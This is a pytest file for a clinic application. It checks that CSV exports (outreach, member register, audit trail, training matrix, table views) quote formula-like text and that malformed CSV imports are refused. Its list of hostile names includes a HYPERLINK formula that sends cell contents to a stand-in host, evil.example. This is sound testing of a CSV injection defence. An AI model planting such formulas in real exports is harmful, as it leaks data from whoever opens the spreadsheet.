"""CSV in and out, as a hostile insider would use it (issue 12, the clinic side).

Out: a name typed as `=HYPERLINK(…)`, `+1`, `@SUM(…)` or `\\t=1` must reach every CSV file
ClinicDesk writes (outreach, members, audit trail, training matrix, any table view) as
text a spreadsheet shows, never as a formula it runs: a leading single quote (OWASP).
Numbers the program made (counts, Decimal amounts) stay numbers, negative ones included.

In: a header naming a column twice, a last row cut short and a quote never closed are each
refused with the column names or the line, and nothing of the file is stored.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import func, select

from clinicdesk.db.models import AuditEvent
from clinicdesk.db.models_clinical import Patient
from clinicdesk.db.models_members import Member
from clinicdesk.db.models_revenue import RevenueLine, RevenuePeriod
from clinicdesk.db.unit_of_work import Database
from clinicdesk.domain.roles import Principal, Role
from clinicdesk.errors import ValidationError
from clinicdesk.interop import csv_safe
from clinicdesk.services import audit, caregaps, outreach, patient_import, revenue, training
from clinicdesk.services import members as svc
from clinicdesk.services.members import EnrolRequest
from tests.helpers.clinic import add_clinician, add_patient, add_staff

# What a hostile name looks like; each must come back from the file with a quote in front.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1",
    "@SUM(A1:A9)",
    "\t=1",
    "-2+3",
    "\r=1",
]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _file_cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _no_cell_starts_like_a_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(csv_safe.FORMULA_STARTS) or _is_number(cell), (row, cell)


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def _count(db: Database, model: type) -> int:
    with db.uow(read_only=True) as uow:
        return int(uow.session.execute(select(func.count()).select_from(model)).scalar_one())


# --- the one rule ---------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_text_starting_like_a_formula_gets_a_quote(text: str) -> None:
    assert csv_safe.safe_cell(text) == "'" + text


def test_numbers_the_program_made_stay_numbers_and_text_that_looks_like_one_does_not() -> None:
    buffer = io.StringIO()
    csv_safe.writer(buffer).writerow([Decimal("-12.50"), -3, 0.5, "-12.50", None, "Anne", True])
    assert _cells(buffer.getvalue()) == [["-12.50", "-3", "0.5", "'-12.50", "", "Anne", "True"]]


# --- exports ---------------------------------------------------------------------------

FLU = "care-gap.influenza-vaccine"


def test_outreach_csv(db: Database, admin: Principal, tmp_path: Path) -> None:
    ana = add_clinician(db, "dr.ana", "Dr Ana Reyes")
    for number, name in enumerate(HOSTILE):
        add_patient(
            db, mrn=f"+M-{number}", birth_date=date(1950, 3, 1), family_name=name,
            given_names=name, phone="@555", clinician_id=ana.user_id,
        )  # fmt: skip
    with db.uow() as uow:
        caregaps.evaluate_clinic(uow, admin, as_of=date(2025, 6, 15))
    target = tmp_path / "outreach.csv"
    with db.uow() as uow:
        assert outreach.export_outreach(uow, admin, FLU, target) == len(HOSTILE)
    rows = _file_cells(target)
    header = rows[0]
    family = [r[header.index("family_name")] for r in rows[1:]]
    assert sorted(family) == sorted("'" + n for n in HOSTILE)
    assert {r[header.index("mrn")] for r in rows[1:]} == {f"'+M-{n}" for n in range(len(HOSTILE))}
    assert {r[header.index("phone")] for r in rows[1:]} == {"'@555"}
    _no_cell_starts_like_a_formula(rows)


def test_member_register_csv(db: Database, admin: Principal, tmp_path: Path) -> None:
    for name in HOSTILE:
        with db.uow() as uow:
            svc.enrol(
                uow,
                admin,
                EnrolRequest(
                    name, "Mei", "patient", date(2020, 1, 6), consent_bylaws=True,
                    consent_data=True,
                ),
            )  # fmt: skip
    target = tmp_path / "register.csv"
    with db.uow() as uow:
        assert svc.export_csv(uow, admin, target, date.today()) == len(HOSTILE)
    rows = _file_cells(target)
    names = [r[rows[0].index("name")] for r in rows[1:]]
    assert all(n.startswith("'") for n in names), names
    # names are stored trimmed: "\t=1" is kept as "=1", still quoted
    assert sorted(n[1:].split(", ")[0] for n in names) == sorted(h.strip() for h in HOSTILE)
    assert [r[0] for r in rows[1:]] == [str(n) for n in range(1, len(HOSTILE) + 1)]
    assert {r[rows[0].index("paid_up")] for r in rows[1:]} == {"0.00"}  # a number, unquoted
    _no_cell_starts_like_a_formula(rows)


def test_audit_trail_csv(db: Database, admin: Principal, tmp_path: Path) -> None:
    with db.uow() as uow:
        for name in HOSTILE:
            audit.record(uow, admin, "patient.view", "patient", name, actor_name=name)
        uow.commit()
    target = tmp_path / "audit.csv"
    with db.uow() as uow:
        audit.export_csv(uow, admin, target)
    rows = _file_cells(target)
    planted = [r for r in rows[1:] if r[3] == "patient.view"]
    assert [r[5] for r in planted] == ["'" + n for n in HOSTILE]  # entity_id
    assert all(r[0].isdigit() for r in rows[1:])  # seq stays a number
    _no_cell_starts_like_a_formula(rows)


def test_training_matrix_csv(db: Database, admin: Principal, tmp_path: Path) -> None:
    manager = add_staff(db, admin, "manager", "Mara Manager", "manager")
    with db.uow() as uow:
        for name in HOSTILE:
            training.add_staff(uow, manager, name, [Role.FRONT_DESK], date(2024, 1, 1))
    target = tmp_path / "matrix.csv"
    with db.uow() as uow:
        training.export_matrix(uow, manager, target)
    rows = _file_cells(target)
    names = {r[1] for r in rows[1:]}
    assert {"'" + n.strip() for n in HOSTILE} <= names  # names are stored trimmed
    _no_cell_starts_like_a_formula(rows)


@pytest.mark.gui
def test_a_table_view_export_quotes_text_and_keeps_amounts(qapp: object, tmp_path: Path) -> None:
    from PySide6.QtGui import QStandardItem, QStandardItemModel

    from clinicdesk.ui.tables import EXPORT_ROLE, export_model_csv

    model = QStandardItemModel(len(HOSTILE), 2)
    model.setHorizontalHeaderLabels(["Name", "Amount"])
    for row, name in enumerate(HOSTILE):
        model.setItem(row, 0, QStandardItem(name))
        amount = QStandardItem("-5.00")
        amount.setData(Decimal("-5.00"), EXPORT_ROLE)
        model.setItem(row, 1, amount)
    target = tmp_path / "view.csv"
    assert export_model_csv(model, target) == len(HOSTILE)
    rows = _file_cells(target)
    assert rows[1:] == [["'" + n, "-5.00"] for n in HOSTILE]


# --- imports ---------------------------------------------------------------------------

MEMBER_HEADER = "record,register_no,family_name,given_names,member_class,applied_on,approved_on"
MEMBER_ROWS = [
    "member,1,Quinn,Mei,patient,2020-01-06,2020-02-01",
    "member,2,Rossi,Ana,patient,2020-01-06,2020-02-01",
    "member,3,Singh,Raj,patient,2020-01-06,2020-02-01",
]


def _members_import(db: Database, admin: Principal, path: Path, text: str) -> None:
    path.write_text(text, encoding="utf-8")
    with db.uow() as uow:
        svc.import_csv(uow, admin, path, commit=True)


def test_member_import_refuses_a_column_named_twice(
    db: Database, admin: Principal, tmp_path: Path
) -> None:
    text = MEMBER_HEADER + ",Family_Name\n" + "\n".join(r + ",X" for r in MEMBER_ROWS) + "\n"
    with pytest.raises(ValidationError, match="'Family_Name' more than once"):
        _members_import(db, admin, tmp_path / "legacy.csv", text)
    assert _count(db, Member) == 0


def test_member_import_refuses_a_last_row_cut_short(
    db: Database, admin: Principal, tmp_path: Path
) -> None:
    text = MEMBER_HEADER + "\n" + "\n".join(MEMBER_ROWS) + "\nmember,4,Tan"
    with pytest.raises(ValidationError, match="line 5 has 3 fields but the header has 7"):
        _members_import(db, admin, tmp_path / "legacy.csv", text)
    assert _count(db, Member) == 0


def test_member_import_refuses_a_quote_never_closed(
    db: Database, admin: Principal, tmp_path: Path
) -> None:
    text = MEMBER_HEADER + "\n" + "\n".join(MEMBER_ROWS) + '\nmember,4,"Tan,Wei,patient\n'
    with pytest.raises(ValidationError, match="quoted field that opens on line 5"):
        _members_import(db, admin, tmp_path / "legacy.csv", text)
    assert _count(db, Member) == 0


PATIENT_HEADER = "mrn,family_name,given_names,birth_date,sex"
PATIENT_ROWS = ["M-1,Quinn,Mei,1970-01-01,F", "M-2,Rossi,Ana,1980-02-02,F"]


def test_patient_list_refuses_a_column_named_twice(
    db: Database, admin: Principal, tmp_path: Path
) -> None:
    path = tmp_path / "patients.csv"
    path.write_text("mrn,family_name,given_names,MRN\nM-1,Quinn,Mei,M-9\n", encoding="utf-8")
    with pytest.raises(ValidationError, match="'MRN' more than once"):
        patient_import.import_patients_csv(db, admin, path)
    assert _count(db, Patient) == 0


@pytest.mark.parametrize(
    ("tail", "message"),
    [
        ("M-3,Singh", "line 4 has 2 fields but the header has 5"),
        ('M-3,"Singh,Raj,1990-03-03,M\n', "quoted field that opens on line 4"),
    ],
    ids=["cut-short", "open-quote"],
)
def test_patient_list_with_a_broken_last_row_stores_nothing(
    db: Database, admin: Principal, tmp_path: Path, tail: str, message: str
) -> None:
    path = tmp_path / "patients.csv"
    path.write_text(PATIENT_HEADER + "\n" + "\n".join(PATIENT_ROWS) + "\n" + tail)
    report = patient_import.import_patients_csv(db, admin, path)
    assert [e.file for e in report.errors] == [str(path)]
    assert message in report.errors[0].message
    assert report.patients_created == 0 and _count(db, Patient) == 0


def test_synthea_table_with_a_row_cut_short_stores_nothing(
    db: Database, admin: Principal, tmp_path: Path
) -> None:
    (tmp_path / "patients.csv").write_text(
        "Id,BIRTHDATE,FIRST,LAST,GENDER\n"
        "p-1,1970-01-01,Mei,Quinn,F\n"
        "p-2,1980-02-02,Ana,Rossi,F\n"
        "p-3,1990-03-03\n"
    )
    report = patient_import.import_synthea_csv(db, admin, tmp_path)
    assert len(report.errors) == 1
    assert "line 4 has 2 fields but the header has 5" in report.errors[0].message
    assert _count(db, Patient) == 0


REVENUE_TODAY = date(2026, 5, 20)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("category,amount,Amount\nother,1,2\n", "'Amount' more than once"),
        ("category,amount,label\nmember_fees,100.00,Dues\nother,12", "line 3 has 2 fields"),
        ('category,amount,label\nmember_fees,100.00,Dues\nother,12,"Bank', "opens on line 3"),
    ],
    ids=["duplicate", "cut-short", "open-quote"],
)
def test_revenue_import_refuses_a_broken_file(
    db: Database, admin: Principal, text: str, message: str
) -> None:
    with pytest.raises(ValidationError, match=message), db.uow() as uow:
        revenue.import_csv(uow, admin, "2026-03", text, today=REVENUE_TODAY)
    assert _count(db, RevenuePeriod) == 0 and _count(db, RevenueLine) == 0
    with pytest.raises(ValidationError, match=message), db.uow() as uow:
        revenue.preview_csv(uow, admin, "2026-03", text, today=REVENUE_TODAY)


def test_nothing_was_audited_for_a_refused_import(
    db: Database, admin: Principal, tmp_path: Path
) -> None:
    text = MEMBER_HEADER + "\n" + "\n".join(MEMBER_ROWS) + "\nmember,4"
    with pytest.raises(ValidationError):
        _members_import(db, admin, tmp_path / "legacy.csv", text)
    with db.uow(read_only=True) as uow:
        actions = set(uow.session.execute(select(AuditEvent.action)).scalars())
    assert "member.import" not in actions


def test_blank_lines_and_lines_of_separators_are_skipped_not_refused() -> None:
    """A spreadsheet saves empty rows as `,,,` (or spaces between the commas): skipped,
    like a blank line, while a row with one filled field is read (and checked)."""
    text = "a,b,c\n1,2,3\n\n,,\n , ,\t\n,,x\n4,5,6\n"
    got = list(csv_safe.strict_rows(io.StringIO(text)))
    assert got == [
        (1, ["a", "b", "c"]),
        (2, ["1", "2", "3"]),
        (6, ["", "", "x"]),
        (7, ["4", "5", "6"]),
    ]


@pytest.mark.parametrize(
    "text",
    [
        "a,b,c\n1,2,3\n4,5,6\n",  # regular: read in one call
        "a,b,c\n1,2,3\n\n,,\n , ,\t\n,,x\n4,5,6\n",  # blank rows: row by row
        'a,b,c\n1,"two\nlines",3\n4,5,6\n',  # a quoted line break: row by row
        "\n\na,b,c\n1,2,3,4\n",  # blank lines before the header, a row longer than it
        "a,b,c\r\n1,2,3\r\n",
        "",
    ],
)
def test_the_whole_file_reader_gives_what_the_row_reader_gives(text: str) -> None:
    """strict_table (a file read in one call when it can be) and strict_rows agree on
    the header, the rows and the line each row starts on."""
    rows = list(csv_safe.strict_rows(io.StringIO(text, newline="")))
    header = [name.strip() for name in rows[0][1]] if rows else []
    expected = (header, [fields for _, fields in rows[1:]], [line for line, _ in rows[1:]])
    assert csv_safe.strict_table(text) == expected
    assert csv_safe.strict_table(io.StringIO(text, newline="")) == expected


@pytest.mark.parametrize(
    "text",
    [
        "a,b,c\r\n1,2,3\r\n4,5,6\r\n",  # regular: read in one pass
        "a,b,c\n1,2,3\n\n4,5,6\n",  # a blank line: read again, row by row
        'a,b,c\n1,"two\nlines",3\n4,5,6\n',  # a quoted line break: the same
    ],
)
def test_the_whole_file_reader_reads_a_file_with_a_byte_order_mark_as_its_text(
    tmp_path: Path, text: str
) -> None:
    """Given the open file, strict_table reads what it would from the file's text, also
    when it has to read the file a second time from the start (the mark skipped again)."""
    path = tmp_path / "table.csv"
    path.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    with path.open(newline="", encoding="utf-8-sig") as handle:
        got = csv_safe.strict_table(handle)
    assert got == csv_safe.strict_table(text)
    assert got[0] == ["a", "b", "c"]


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("a,b,c\n1,2,3\n4,5\n", "line 3 has 2 fields"),
        ("a,b,c\n1,2,3\n\n4,5\n", "line 4 has 2 fields"),
        ('a,b,c\n1,2,3\n4,"5,6\n', "quoted field that opens on line 3"),
        ("a,b,A\n1,2,3\n", "'A' more than once"),
    ],
)
def test_the_whole_file_reader_refuses_what_the_row_reader_refuses(text: str, words: str) -> None:
    with pytest.raises(csv_safe.CsvShapeError, match=words):
        csv_safe.strict_table(text)
    with pytest.raises(csv_safe.CsvShapeError, match=words):
        csv_safe.strict_table(io.StringIO(text, newline=""))
